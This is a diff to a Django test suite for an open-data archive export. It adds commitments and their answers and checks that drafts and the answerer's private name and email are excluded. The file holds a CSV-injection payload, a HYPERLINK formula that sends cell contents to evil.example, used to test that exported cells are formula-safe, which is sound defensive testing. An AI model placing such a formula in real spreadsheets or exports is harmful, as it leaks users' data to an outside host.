@@ -19,6 +19,8 @@ from django.test import Client
 from django.utils import timezone
 
 from events.enums import OutcomeStatus
+from events.models import Commitment
+from events.services import commitment_answer, commitments_sync
 from publications.models import OpenDataArchive
 from publications.services.opendata import KINDS, open_data_build
 from publications.tasks import task_open_data_build
@@ -37,6 +39,7 @@ pytestmark = pytest.mark.django_db
 
 SECRET = "INTERNAL-SECRET-REASON"
 PRIVATE_MAIL = "private-contact@example.org"
+ANSWERER_MAIL = "answerer@example.org"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
@@ -93,10 +96,21 @@ def world():
     outcome = OutcomeDocumentFactory(
         session=session, status=OutcomeStatus.PUBLISHED, change_reason=SECRET
     )
-    OutcomeDocumentFactory(
+    commitments_sync(outcome=outcome)
+    # Answered by a person whose name and address are the secretariat's to know.
+    commitment_answer(
+        commitment=outcome.commitments.get(text="Outcome 2"),
+        by=secretariat_user(email=ANSWERER_MAIL, full_name="ANSWERER-NAME"),
+        status="in_progress",
+        answer="Half of the schools are connected.",
+    )
+    draft_outcome = OutcomeDocumentFactory(
         session=SessionFactory(event=event),
         status=OutcomeStatus.DRAFT,
         thematic_suggestions="DRAFT-OUTCOME-TEXT",
+    )
+    Commitment.objects.create(
+        outcome=draft_outcome, section="action_plan", text="DRAFT-COMMITMENT", key="draft"
     )
     draft_event = EventFactory(is_draft=True, name="DRAFT-EVENT")
     SessionFactory(event=draft_event, title="SESSION-OF-A-DRAFT-EVENT")
@@ -135,6 +149,7 @@ EXPECTED_COUNTS = {
     "events": 1,
     "sessions": 2,
     "outcome_documents": 1,
+    "commitments": 5,
     "roadmap_versions": 2,
     "roadmap_clauses": 3,
 }
@@ -171,6 +186,21 @@ def test_the_archive_holds_every_public_kind_and_nothing_else(world):
     assert _jsonl(bundle, "prize_results")[0]["id"] == world["winner"].pk
     assert [row["id"] for row in _jsonl(bundle, "outcome_documents")] == [world["outcome"].pk]
     assert {row["event"] for row in _jsonl(bundle, "sessions")} == {world["event"].slug}
+    # The commitments as /api/v1/commitments/ shows them, with their answers.
+    commitments = _jsonl(bundle, "commitments")
+    listed = Client().get("/api/v1/commitments/").json()["results"]
+    site = settings.PORTAL_BASE_URL.rstrip("/")
+    assert commitments == [
+        row
+        | {name: row[name].replace("http://testserver", site) for name in ("url", "outcome_url")}
+        for row in listed
+    ]
+    answered = next(row for row in commitments if row["text"] == "Outcome 2")
+    assert (answered["status"], answered["answer"]) == (
+        "in_progress",
+        "Half of the schools are connected.",
+    )
+    assert {row["outcome"] for row in commitments} == {world["outcome"].pk}
 
 
 def test_no_draft_and_no_private_field_reaches_the_archive(world):
@@ -188,8 +218,12 @@ def test_no_draft_and_no_private_field_reaches_the_archive(world):
         "DRAFT-EVENT",
         "SESSION-OF-A-DRAFT-EVENT",
         "DRAFT-CLAUSE-TEXT",
+        "DRAFT-COMMITMENT",
+        ANSWERER_MAIL,
+        "ANSWERER-NAME",
     ):
         assert hidden not in everything, hidden
+    assert "answered_by" not in _jsonl(bundle, "commitments")[0]
     # The fields are the public API's: pinned in tests/test_public_fields.py.
     entry = _jsonl(bundle, "stocktaking_entries")[0]
     assert not {"contact_email", "decision_reason", "moderation_status"} & entry.keys()
@@ -215,6 +249,18 @@ def test_the_csv_files_are_formula_safe_and_flatten_the_records(world):
     assert record["countries"] == "CH"
     assert record["sdgs"] == "9"
     assert json.loads(record["prizes"])[0]["result"] == "winner"
+    header, *rows = _csv(bundle, "commitments")
+    commitments = {row[header.index("text")]: dict(zip(header, row, strict=True)) for row in rows}
+    answered = commitments["Outcome 2"]
+    assert (answered["status"], answered["answer"], answered["withdrawn"]) == (
+        "in_progress",
+        "Half of the schools are connected.",
+        "false",
+    )
+    assert answered["event"] == world["outcome"].session.event.slug
+    assert answered["organisers"] == "; ".join(
+        world["outcome"].session.organisers.order_by("name").values_list("slug", flat=True)
+    )
     for kind in KINDS:
         for cells in _csv(bundle, kind.name)[1:]:
             for cell in cells:
